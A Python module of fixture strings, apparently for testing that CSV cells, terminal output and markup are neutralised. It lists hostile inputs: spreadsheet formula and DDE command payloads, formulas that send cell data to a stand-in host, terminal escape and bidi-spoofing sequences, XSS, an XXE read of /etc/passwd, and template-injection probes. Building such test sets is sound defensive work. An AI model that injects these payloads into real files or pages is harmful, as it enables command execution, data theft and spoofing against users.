"""Two hundred and more texts that try to be more than text where they are shown."""

from __future__ import annotations

import re

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")  # noqa: RUF001 - wide forms act alike
BEFORE = (
    *("", " ", "   ", "\t", "\r", "\n", "\r\n", "\x0b", "\x1f", "\x7f", "\x85"),
    *("\xa0", "\xad", "\u2003", "\u200b", "\u200c\u200d", "\u2060", "\u3000", "\ufeff"),
    *('"', ' "', "'", "''", "\u201c", "\u2019 "),
)
FORMULAS = tuple(f"{before}{sign}1+1" for sign in SIGNS for before in BEFORE)
DDE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://invented.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://invented.example/",A1),"//a")',
    '=WEBSERVICE("http://invented.example/")',
    "﹦1+1",
    "⁼1+1",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b[1;1Hover",
    "\x1b[?1049h",
    "\x1b[8mhidden\x1b[28m",
    "\x1b]0;a title\x07",
    "\x1b]0;a title\x1b\\",
    "\x1b]8;;http://invented.example\x1b\\a link\x1b]8;;\x1b\\",
    "\x1b]52;c;aW52ZW50ZWQ=\x07",
    "\x1b]1337;File=name=x:AAAA\x07",
    "\x1bP1$q\x1b\\",
    "\x1b_G\x1b\\",
    "\x1b^private\x1b\\",
    "\x1bc",
    "\x1b#8",
    "\x9b31mred\x9b0m",
    "\x9d0;a title\x9c",
    "\x90q\x9c",
    "\x84\x85\x88\x8d\x8e\x8f",
    "a\rover",
    "a\x08\x08b",
    "\x07bell",
    "\x0e\x0fshifted",
    "\x7f",
    "two\nlines",
    "two\r\nlines",
    "a\x0bb\x0cc",
    "\x1b",
    "\\x1b[31mwritten out",
)
TURNED = (
    "\u202egnp.exe",
    "\u202dleft",
    "\u202aembedded\u202c",
    "\u202bembedded\u202c",
    "\u2066isolated\u2069",
    "\u2067isolated\u2069",
    "\u2068isolated\u2069",
    "\u200fmark",
    "\u200emark",
    "\u061cmark",
    "\u206aold",
    "\u202e" * 50,
)
UNSEEN = (
    "\u2028line",
    "\u2029paragraph",
    "\ufeffmark",
    "\u200bnothing",
    "\u2060nothing",
    "\ufff9note\ufffa\ufffb",
    "\U000e0041\U000e0042tags",
    "\ufffe\uffff",
    "\x00",
    "a\x00b",
    "=\x001+1",
    "\ud800",
    "\udfffend",
    "\udc80\udcff from arguments",
    "\ud83d alone",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</text><script>alert(1)</script>",
    "</svg><img src=x onerror=alert(1)>",
    "</title></desc><script/>",
    '" onload="alert(1)',
    "' onload='alert(1)",
    "<!-- ",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "&lt;b&gt;",
    "&#x1b;",
    "&amp;",
    "<a href='javascript:alert(1)'>x</a>",
    "<foreignObject><iframe/></foreignObject>",
    "<use href='http://invented.example/x.svg#a'/>",
    "{{7*7}}${7*7}",
    "[bold red]rich[/bold red]",
    "[link=http://invented.example]rich[/link]",
    "[/]",
    "\\[bold]",
    ":smile:",
    "`code` *star* | cell |",
)
LONG = ("x" * 20_000, "=" * 20_000, "漢" * 5_000, "a " * 5_000, "\x1b" * 2_000)
SEPARATED = ('a,b"c', "a\tb", 'say "no"', ",", '"', '""', ";=1+1", "a;b")
PARTED = tuple(
    f"Invented{before}{part}{between}{sign}1+1"
    for sign in ("=", "-", "＠")  # noqa: RUF001 - a wide form too
    for part in (";", "\t", "\n", "\r\n", ";;", ";\t")
    for before in ("", ",", '"')
    for between in ("", " ", '"', "\u200b", "'")
)
"""Formulas for who parts rows elsewhere than at commas."""

GROUPS = {
    "formulas": FORMULAS,
    "dde": DDE,
    "terminal": TERMINAL,
    "turned": TURNED,
    "unseen": UNSEEN,
    "markup": MARKUP,
    "long": LONG,
    "separated": SEPARATED,
    "parted": PARTED,
}
STRINGS = tuple(one for group in GROUPS.values() for one in group)


def given_back(cell: str) -> str:
    """The text of a cell before it was neutralised, as a manifest tells it."""
    return re.sub(r"(\A|[;\t\r\n])'", r"\1", cell)
